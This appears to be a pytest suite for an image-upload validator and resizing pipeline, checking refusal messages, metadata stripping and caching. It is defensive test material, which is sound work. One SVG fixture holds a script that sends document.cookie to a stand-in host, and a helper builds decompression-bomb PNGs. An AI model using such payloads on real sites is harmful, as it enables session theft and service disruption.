"""Images: bad uploads are refused with the exact message; published renditions are
upright, metadata-free, deterministic and cached."""

from __future__ import annotations

import io
import struct
import warnings
import zlib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

from dangjian import images
from dangjian.errors import UserError
from dangjian.images import MAX_FILE_BYTES, ImageError, inspect_image
from dangjian.pages import alt_text
from dangjian.renditions import ImagePipeline, prepare_many

RED, BLUE, GREEN = (220, 20, 20), (20, 40, 200), (20, 180, 40)

NOT_ACCEPTED = "不是 JPEG/PNG/WebP 图片（实际是 {}），请另存为 JPEG 或 PNG 后再上传"
TRUNCATED = "文件不完整（可能上传或复制时中断），请重新导出或重新上传"
CORRUPT = "文件已损坏，无法读取图像内容，请用看图软件确认能打开后重新导出再上传"


# --- building the corpus ------------------------------------------------------


def marked(size: tuple[int, int] = (400, 200)) -> Image.Image:
    """Blue picture with a red block in the top-left corner and a green one bottom-left,
    so any rotation or mirroring shows."""
    width, height = size
    im = Image.new("RGB", size, BLUE)
    im.paste(RED, (0, 0, width // 4, height // 4))
    im.paste(GREEN, (0, height - height // 4, width // 4, height))
    return im


def encoded(im: Image.Image, fmt: str, **params) -> bytes:
    buffer = io.BytesIO()
    im.save(buffer, fmt, **params)
    return buffer.getvalue()


def write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def png_header_only(width: int, height: int) -> bytes:
    """A PNG whose IHDR claims any size, with a tiny IDAT: the decompression-bomb shape."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


GPS_XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-'
    b'syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
    b'exif:GPSLatitude="39,54.3N" exif:GPSLongitude="116,23.5E"/></rdf:RDF></x:xmpmeta>'
)


def phone_photo(path: Path, size: tuple[int, int] = (400, 200)) -> Path:
    """A camera JPEG: stored sideways with Orientation=6, GPS position, camera and date
    in EXIF, GPS in XMP, an ICC profile."""
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "PhoneModel X"  # Model
    exif[0x0132] = "2024:05:01 09:30:00"  # DateTime
    gps = exif.get_ifd(0x8825)  # GPSInfo
    gps[1] = "N"
    gps[2] = (39.0, 54.0, 18.0)
    gps[3] = "E"
    gps[4] = (116.0, 23.0, 30.0)
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = encoded(marked(size), "JPEG", quality=95, exif=exif, xmp=GPS_XMP, icc_profile=icc)
    return write(path, data)


def logo_png(path: Path) -> Path:
    """A round red logo on a transparent background."""
    im = Image.new("RGBA", (300, 300), (0, 0, 0, 0))
    disc = Image.new("L", (300, 300), 0)
    from PIL import ImageDraw

    ImageDraw.Draw(disc).ellipse((30, 30, 270, 270), fill=255)
    im.paste((200, 16, 32, 255), mask=disc)
    return write(path, encoded(im, "PNG"))


def assert_no_metadata(path: Path) -> None:
    raw = path.read_bytes()
    for marker in (b"Exif", b"GPS", b"ICC_PROFILE", b"iCCP", b"eXIf", b"http://ns.adobe.com"):
        assert marker not in raw, f"{marker!r} left in {path.name}"
    with Image.open(path) as im:
        assert not (set(im.info) & {"exif", "xmp", "icc_profile", "XML:com.adobe.xmp", "dpi"})
        assert len(im.getexif()) == 0


# --- bad uploads: each with its exact message -----------------------------------

SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>fetch('https://example.invalid/?c=' + document.cookie)</script>
  <circle cx="50" cy="50" r="40" fill="red"/>
</svg>"""


def bad_corpus(root: Path) -> dict[str, tuple[Path, str]]:
    """Name -> (file, expected message). File names lie on purpose: the content decides."""
    jpeg = encoded(marked((300, 200)), "JPEG")
    png = encoded(marked((300, 200)), "PNG")
    webp = encoded(marked((300, 200)), "WEBP")
    broken_png = bytearray(png)
    broken_png[60:80] = bytes(20)  # inside IDAT: the CRC no longer matches
    huge = root / "huge.jpg"
    with huge.open("wb") as f:  # sparse: 16 MiB without writing 16 MiB
        f.write(jpeg)
        f.truncate(16 * 1024 * 1024)
    frames = [marked((60, 40)), marked((60, 40)).rotate(180), marked((60, 40))]
    apng = encoded(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100)
    return {
        "zero bytes": (
            write(root / "empty.jpg", b""),
            "文件是空的（0 字节），请重新导出图片后再上传",
        ),
        "huge file": (huge, "文件太大（16 MB，上限 15 MB），请压缩或缩小尺寸后再上传"),
        "GIF named .jpg": (
            write(root / "gif.jpg", encoded(marked(), "GIF")),
            NOT_ACCEPTED.format("GIF"),
        ),
        "BMP named .png": (
            write(root / "bmp.png", encoded(marked(), "BMP")),
            NOT_ACCEPTED.format("BMP"),
        ),
        "TIFF named .jpeg": (
            write(root / "tiff.jpeg", encoded(marked(), "TIFF")),
            NOT_ACCEPTED.format("TIFF"),
        ),
        "PDF named .jpg": (
            write(root / "scan.jpg", b"%PDF-1.7\n1 0 obj<<>>endobj\n"),
            NOT_ACCEPTED.format("PDF"),
        ),
        "Word document named .png": (
            write(root / "doc.png", b"PK\x03\x04" + bytes(40)),
            NOT_ACCEPTED.format("ZIP 压缩包或 Word/Excel/PPT 文档"),
        ),
        "iPhone HEIC named .jpg": (
            write(root / "iphone.jpg", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1" + bytes(68)),
            "不是 JPEG/PNG/WebP 图片（实际是 HEIC，苹果手机的默认照片格式），"
            "请在手机上选择“兼容性最佳”或另存为 JPEG 后再上传",
        ),
        "SVG with script named .png": (
            write(root / "logo.png", SVG),
            "不是 JPEG/PNG/WebP 图片（实际是 SVG 矢量图），请导出为 PNG 后再上传",
        ),
        "SVG without XML declaration": (
            write(root / "logo.svg", b"\xef\xbb\xbf  <svg xmlns='http://www.w3.org/2000/svg'/>"),
            "不是 JPEG/PNG/WebP 图片（实际是 SVG 矢量图），请导出为 PNG 后再上传",
        ),
        "text named .jpg": (
            write(root / "notes.jpg", "会议照片见附件".encode()),
            "不是 JPEG/PNG/WebP 图片（无法识别文件内容），请另存为 JPEG 或 PNG 后再上传",
        ),
        "truncated JPEG": (write(root / "cut.jpg", jpeg[: len(jpeg) // 2]), TRUNCATED),
        "truncated PNG": (write(root / "cut.png", png[: len(png) // 2]), TRUNCATED),
        "truncated WebP": (write(root / "cut.webp", webp[: len(webp) // 2]), TRUNCATED),
        "JPEG header then garbage": (
            write(root / "garbage.jpg", jpeg[:20] + bytes(range(256)) * 8),
            CORRUPT,
        ),
        "PNG with a damaged IDAT": (write(root / "damaged.png", bytes(broken_png)), CORRUPT),
        "PNG claiming 100000x100000": (
            write(root / "bomb.png", png_header_only(100_000, 100_000)),
            "像素太多（约 100 亿像素，上限 4000 万像素），请缩小尺寸后再上传",
        ),
        # Between Pillow's warning (89 MP) and its error (179 MP): the warning is an error.
        "PNG claiming 10000x10000": (
            write(root / "warn.png", png_header_only(10_000, 10_000)),
            "像素太多（约 1 亿像素，上限 4000 万像素），请缩小尺寸后再上传",
        ),
        # Under Pillow's limits, over ours: the size is stated.
        "PNG claiming 8000x6000": (
            write(root / "big.png", png_header_only(8000, 6000)),
            "像素太多（8000×6000，约 4800 万像素，上限 4000 万像素），请缩小尺寸后再上传",
        ),
        "animated PNG": (write(root / "anim.png", apng), "是动图（共 3 帧），请上传静态图片"),
        "a folder": (root / "folder.jpg", "这是一个文件夹，不是图片文件"),
    }


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Path, str]]:
    root = tmp_path_factory.mktemp("bad")
    (root / "folder.jpg").mkdir()
    return bad_corpus(root)


CASES = [
    "zero bytes",
    "huge file",
    "GIF named .jpg",
    "BMP named .png",
    "TIFF named .jpeg",
    "PDF named .jpg",
    "Word document named .png",
    "iPhone HEIC named .jpg",
    "SVG with script named .png",
    "SVG without XML declaration",
    "text named .jpg",
    "truncated JPEG",
    "truncated PNG",
    "truncated WebP",
    "JPEG header then garbage",
    "PNG with a damaged IDAT",
    "PNG claiming 100000x100000",
    "PNG claiming 10000x10000",
    "PNG claiming 8000x6000",
    "animated PNG",
    "a folder",
]


def test_corpus_lists_every_case(corpus):
    assert sorted(corpus) == sorted(CASES)


@pytest.mark.parametrize("case", CASES)
def test_bad_image_is_refused_with_its_message(corpus, case):
    path, expected = corpus[case]
    assert inspect_image(path) == expected


@pytest.mark.parametrize("case", CASES)
def test_pipeline_refuses_bad_image_naming_the_file(corpus, case, tmp_path):
    path, expected = corpus[case]
    with pytest.raises(ImageError) as raised:
        ImagePipeline(tmp_path / "cache").web(path, "photo")
    assert raised.value.message == f"图片 {path}：{expected}"
    assert isinstance(raised.value, UserError)
    assert not (tmp_path / "cache").exists() or not any((tmp_path / "cache").iterdir())


def test_huge_file_limit_is_the_published_constant(tmp_path):
    just_fits = tmp_path / "fits.jpg"
    with just_fits.open("wb") as f:
        f.write(encoded(marked(), "JPEG"))
        f.truncate(MAX_FILE_BYTES)
    # Trailing bytes after a JPEG are tolerated by decoders; the size limit is inclusive.
    assert inspect_image(just_fits) is None


def test_good_images_pass_whatever_their_name(tmp_path):
    assert inspect_image(write(tmp_path / "photo.png", encoded(marked(), "JPEG"))) is None
    assert inspect_image(write(tmp_path / "logo.jpg", encoded(marked(), "PNG"))) is None
    assert inspect_image(write(tmp_path / "shot.bin", encoded(marked(), "WEBP"))) is None
    assert inspect_image(phone_photo(tmp_path / "phone.jpg")) is None
    assert inspect_image(logo_png(tmp_path / "logo.png")) is None


@pytest.fixture(scope="module")
def noise() -> Image.Image:
    """3000x2000 of colour noise: encodes to a JPEG of several MB, like a phone photo."""
    grey = Image.effect_noise((3000, 2000), 45)
    return Image.merge(
        "RGB", (grey, grey.rotate(180), grey.transpose(Image.Transpose.FLIP_LEFT_RIGHT))
    )


def noisy_photo(path: Path, noise: Image.Image, **params) -> Path:
    """A large JPEG with an EXIF thumbnail (which has its own end marker)."""
    thumb = encoded(marked((160, 120)), "JPEG")
    exif = Image.Exif()
    exif[0x0112] = 1
    exif.get_ifd(0x8769)[0x9003] = "2024:05:01 09:30:00"  # DateTimeOriginal
    data = encoded(noise, "JPEG", quality=92, exif=exif.tobytes() + thumb, **params)
    assert len(data) > 2 * 1024 * 1024  # above what `check` decodes
    return write(path, data)


def test_large_truncated_photo_is_caught_without_decoding(tmp_path, noise):
    whole = noisy_photo(tmp_path / "whole.jpg", noise).read_bytes()
    for cut in (0.3, 0.9, 0.9999):
        path = write(tmp_path / f"cut-{cut}.jpg", whole[: int(len(whole) * cut)])
        assert inspect_image(path) == TRUNCATED
        with pytest.raises(ImageError):
            ImagePipeline(tmp_path / "cache").web(path, "photo")


@pytest.mark.slow  # three JPEGs of several megabytes
def test_large_photos_pass_progressive_or_with_a_video_appended(tmp_path, noise):
    assert inspect_image(noisy_photo(tmp_path / "plain.jpg", noise)) is None
    assert inspect_image(noisy_photo(tmp_path / "progressive.jpg", noise, progressive=True)) is None
    # Motion photos carry a short video after the JPEG's end marker.
    motion = (
        noisy_photo(tmp_path / "motion.jpg", noise).read_bytes()
        + b"\x00\x00\x00\x18ftypmp42"
        + bytes(500)
    )
    assert inspect_image(write(tmp_path / "motion.jpg", motion)) is None
    web = ImagePipeline(tmp_path / "cache").web(tmp_path / "motion.jpg", "photo")
    assert (web.page.width, web.page.height) == (1200, 800)


def test_jpeg_with_extra_pictures_is_not_an_animation(tmp_path):
    # Phones store HDR gain maps and depth maps as extra pictures (MPF) in the JPEG.
    main, gain_map = marked((1600, 1200)), Image.new("RGB", (800, 600), (90, 90, 90))
    source = write(
        tmp_path / "hdr.jpg", encoded(main, "MPO", save_all=True, append_images=[gain_map])
    )
    with Image.open(source) as im:
        assert im.format == "MPO" and im.n_frames == 2
    assert inspect_image(source) is None
    page = ImagePipeline(tmp_path / "cache").web(source, "photo").page
    assert (page.width, page.height) == (1200, 900)
    assert close(pixel(page.path, 0.05, 0.05), RED)
    assert_no_metadata(page.path)


def test_checking_leaves_warning_filters_and_pillow_limits_alone(corpus):
    before_filters = list(warnings.filters)
    before_limit = Image.MAX_IMAGE_PIXELS
    inspect_image(corpus["PNG claiming 10000x10000"][0])
    assert warnings.filters == before_filters
    assert Image.MAX_IMAGE_PIXELS == before_limit


def test_our_pixel_limit_holds_even_when_pillow_limit_is_lifted(corpus, monkeypatch):
    # Another library may set MAX_IMAGE_PIXELS = None; our limit must not depend on it.
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", None)
    path, _ = corpus["PNG claiming 10000x10000"]
    assert inspect_image(path) == (
        "像素太多（10000×10000，约 1 亿像素，上限 4000 万像素），请缩小尺寸后再上传"
    )


_SEEDS = [encoded(marked((64, 48)), fmt) for fmt in ("JPEG", "PNG", "WEBP")]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    seed=st.sampled_from(_SEEDS),
    cut=st.integers(min_value=0, max_value=4000),
    flips=st.lists(st.tuples(st.integers(0, 4000), st.integers(0, 255)), max_size=8),
)
def test_inspect_never_raises_on_mangled_files(tmp_path_factory, seed, cut, flips):
    data = bytearray(seed[: max(1, cut)] if cut < len(seed) else seed)
    for at, value in flips:
        if at < len(data):
            data[at] = value
    path = write(tmp_path_factory.mktemp("fuzz") / "x.jpg", bytes(data))
    result = inspect_image(path)
    assert result is None or isinstance(result, str) and result


# --- renditions -----------------------------------------------------------------


def pixel(path: Path, fx: float, fy: float) -> tuple[int, int, int]:
    with Image.open(path) as im:
        rgb = im.convert("RGB")
        return rgb.getpixel((int(fx * (rgb.width - 1)), int(fy * (rgb.height - 1))))


def close(a: tuple[int, ...], b: tuple[int, ...], tolerance: int = 40) -> bool:
    return all(abs(x - y) <= tolerance for x, y in zip(a, b, strict=True))


def test_phone_photo_comes_out_upright_without_any_metadata(tmp_path):
    source = phone_photo(tmp_path / "phone.jpg", size=(400, 200))
    raw = source.read_bytes()
    assert b"Exif" in raw and b"GPSLatitude" in raw and b"ICC_PROFILE" in raw  # the setup leaks
    pipeline = ImagePipeline(tmp_path / "cache")
    web = pipeline.web(source, "photo")
    printed = pipeline.print(source, "photo")

    for rendition in (web.page, web.thumb, printed):
        assert rendition.mime == "image/jpeg"
        assert rendition.path.suffix == ".jpg"
        assert rendition.path.parent == tmp_path / "cache"
        with Image.open(rendition.path) as im:
            assert im.format == "JPEG"
            assert im.size == (rendition.width, rendition.height)
        assert_no_metadata(rendition.path)
        # Stored 400x200 with the red block top-left; turned clockwise it stands
        # 200x400 with red at the top-right and green at the top-left.
        assert rendition.height == 2 * rendition.width
        assert close(pixel(rendition.path, 0.95, 0.05), RED)
        assert close(pixel(rendition.path, 0.05, 0.05), GREEN)
        assert close(pixel(rendition.path, 0.5, 0.9), BLUE)

    assert (web.page.width, web.page.height) == (200, 400)  # small photos are never enlarged
    assert (web.thumb.width, web.thumb.height) == (200, 400)


def test_png_and_webp_metadata_is_dropped_too(tmp_path):
    exif = Image.Exif()
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    text = PngInfo()
    text.add_text("Author", "张三")
    text.add_itxt("XML:com.adobe.xmp", GPS_XMP.decode())
    rgba = marked().convert("RGBA")
    sources = [
        write(tmp_path / "a.png", encoded(rgba, "PNG", exif=exif, icc_profile=icc, pnginfo=text)),
        write(tmp_path / "b.webp", encoded(rgba, "WEBP", exif=exif, icc_profile=icc, xmp=GPS_XMP)),
    ]
    pipeline = ImagePipeline(tmp_path / "cache")
    for source in sources:
        for role in ("logo", "photo"):
            page = pipeline.web(source, role).page
            assert_no_metadata(page.path)
            assert b"tEXt" not in page.path.read_bytes() and b"iTXt" not in page.path.read_bytes()
            assert (page.width, page.height) == (200, 400)  # Orientation 6 applied
            assert close(pixel(page.path, 0.95, 0.05), RED)


@pytest.mark.slow  # three renditions of a 12-megapixel photo
def test_camera_sized_photo_is_resized_for_page_thumb_and_print(tmp_path):
    source = phone_photo(tmp_path / "camera.jpg", size=(4000, 3000))
    pipeline = ImagePipeline(tmp_path / "cache")
    web = pipeline.web(source, "photo")
    printed = pipeline.print(source, "photo")
    # Upright it is 3000x4000 (portrait); each box keeps the aspect ratio.
    assert (web.page.width, web.page.height) == (1200, 1600)
    assert (web.thumb.width, web.thumb.height) == (480, 640)
    assert (printed.width, printed.height) == (1800, 2400)
    assert close(pixel(web.page.path, 0.95, 0.05), RED)
    assert web.page.path.stat().st_size < 300_000
    for rendition in (web.page, web.thumb, printed):
        assert_no_metadata(rendition.path)


def test_landscape_photo_without_exif_keeps_its_orientation(tmp_path):
    source = write(tmp_path / "wide.jpg", encoded(marked((3000, 1500)), "JPEG", quality=90))
    web = ImagePipeline(tmp_path / "cache").web(source, "photo")
    assert (web.page.width, web.page.height) == (1200, 600)
    assert close(pixel(web.page.path, 0.05, 0.05), RED)
    assert close(pixel(web.page.path, 0.05, 0.95), GREEN)


def test_same_input_gives_byte_identical_output(tmp_path):
    source = phone_photo(tmp_path / "phone.jpg", size=(1600, 1200))  # still resized for the page
    logo = logo_png(tmp_path / "logo.png")
    outputs = []
    for run in ("a", "b"):
        pipeline = ImagePipeline(tmp_path / run)
        web = pipeline.web(source, "photo")
        logo_web = pipeline.web(logo, "logo")
        files = [web.page, web.thumb, pipeline.print(source, "photo"), logo_web.page]
        outputs.append([(f.path.name, f.path.read_bytes()) for f in files])
        assert pipeline.encoded == 5  # page, thumb and print of the photo; page, thumb of the logo
    assert outputs[0] == outputs[1]


def test_second_build_encodes_nothing(tmp_path):
    sources = [phone_photo(tmp_path / f"p{i}.jpg", size=(1600, 1200 + i)) for i in range(3)]
    logo = logo_png(tmp_path / "logo.png")
    cache = tmp_path / "cache"

    first = ImagePipeline(cache)
    for source in sources:
        first.web(source, "photo")
        first.print(source, "photo")
    first.web(logo, "logo")
    assert (first.encoded, first.reused) == (3 * 3 + 2, 0)
    files = {p.name: p.stat().st_mtime_ns for p in cache.iterdir()}
    assert len(files) == 11

    second = ImagePipeline(cache)
    results = [(second.web(s, "photo"), second.print(s, "photo")) for s in sources]
    second.web(logo, "logo")
    assert (second.encoded, second.reused) == (0, 11)
    assert {p.name: p.stat().st_mtime_ns for p in cache.iterdir()} == files
    assert results[0][0].page.width == 1200 and results[0][0].page.height == 1600


def test_cache_follows_content_not_file_name_or_time(tmp_path):
    source = write(tmp_path / "a.jpg", encoded(marked((800, 600)), "JPEG"))
    cache = tmp_path / "cache"
    ImagePipeline(cache).web(source, "photo")

    copy = write(tmp_path / "renamed-copy.jpg", source.read_bytes())
    again = ImagePipeline(cache)
    again.web(copy, "photo")
    assert (again.encoded, again.reused) == (0, 2)

    write(source, encoded(marked((800, 600)).rotate(180), "JPEG"))  # new content, same name
    changed = ImagePipeline(cache)
    changed.web(source, "photo")
    assert (changed.encoded, changed.reused) == (2, 0)


def test_lost_cache_file_is_encoded_again(tmp_path):
    source = write(tmp_path / "a.jpg", encoded(marked((800, 600)), "JPEG"))
    web = ImagePipeline(tmp_path / "cache").web(source, "photo")
    web.thumb.path.unlink()
    again = ImagePipeline(tmp_path / "cache")
    assert again.web(source, "photo") == web
    assert (again.encoded, again.reused) == (1, 1)
    assert not list((tmp_path / "cache").glob(".*.tmp"))  # no temporary file left


def test_logo_keeps_transparency_photo_is_flattened_on_white(tmp_path):
    source = logo_png(tmp_path / "logo.png")
    pipeline = ImagePipeline(tmp_path / "cache")
    logo = pipeline.web(source, "logo")
    assert logo.page.mime == "image/png" and logo.page.path.suffix == ".png"
    with Image.open(logo.page.path) as im:
        assert im.mode == "RGBA"
        assert im.getpixel((2, 2))[3] == 0  # corner stays transparent
        assert im.getpixel((150, 150)) == (200, 16, 32, 255)
    assert_no_metadata(logo.page.path)
    assert pipeline.print(source, "logo").mime == "image/png"

    as_photo = pipeline.web(source, "photo")
    assert as_photo.page.mime == "image/jpeg"
    assert close(pixel(as_photo.page.path, 0.0, 0.0), (255, 255, 255), tolerance=3)


def test_palette_logo_with_transparency_stays_transparent(tmp_path):
    im = Image.new("P", (120, 60), 0)
    im.putpalette([255, 255, 255, 200, 16, 32] + [0] * 762)
    im.paste(1, (20, 10, 100, 50))
    source = write(tmp_path / "logo.png", encoded(im, "PNG", transparency=0))
    page = ImagePipeline(tmp_path / "cache").web(source, "logo").page
    with Image.open(page.path) as out:
        assert out.mode == "RGBA"
        assert out.getpixel((5, 5))[3] == 0
        assert out.getpixel((60, 30)) == (200, 16, 32, 255)


def test_sixteen_bit_greyscale_is_not_blown_out(tmp_path):
    im = Image.new("I;16", (64, 64), 0x8000)  # mid grey on 16 bits
    source = write(tmp_path / "grey16.png", encoded(im, "PNG"))
    page = ImagePipeline(tmp_path / "cache").web(source, "photo").page
    assert close(pixel(page.path, 0.5, 0.5), (128, 128, 128), tolerance=4)


def test_alt_text_comes_from_caption_or_title():
    assert alt_text("photo", "  志愿者在社区服务站  ", "红色引擎") == "志愿者在社区服务站"
    assert alt_text("photo", "", "红色引擎") == "红色引擎"
    assert alt_text("logo", "", "红色引擎") == "红色引擎品牌标识"


def test_prepare_many_uses_processes_counts_work_and_collects_every_error(tmp_path, corpus):
    sources = [phone_photo(tmp_path / f"p{i}.jpg", size=(1000 + i, 800)) for i in range(4)]
    pipeline = ImagePipeline(tmp_path / "cache")
    prepared = prepare_many(pipeline, [(s, "photo") for s in sources], workers=2)
    assert [p.source for p in prepared] == sources
    assert (pipeline.encoded, pipeline.reused) == (12, 0)
    assert all(p.print is not None and p.print.width == 800 for p in prepared)

    warm = ImagePipeline(tmp_path / "cache")
    assert prepare_many(warm, [(s, "photo") for s in sources], workers=2) == prepared
    assert (warm.encoded, warm.reused) == (0, 12)

    bad = [corpus["zero bytes"][0], corpus["SVG with script named .png"][0]]
    with pytest.raises(UserError) as raised:
        prepare_many(pipeline, [(sources[0], "photo")] + [(b, "logo") for b in bad], workers=2)
    assert raised.value.message.splitlines() == [
        f"图片 {bad[0]}：{corpus['zero bytes'][1]}",
        f"图片 {bad[1]}：{corpus['SVG with script named .png'][1]}",
    ]


def test_unknown_role_is_a_programming_error(tmp_path):
    source = write(tmp_path / "a.jpg", encoded(marked(), "JPEG"))
    with pytest.raises(ValueError):
        ImagePipeline(tmp_path / "cache").web(source, "banner")


def test_limits_are_what_the_docs_say():
    assert images.MAX_FILE_BYTES == 15 * 1024 * 1024
    assert images.MAX_PIXELS == 40_000_000
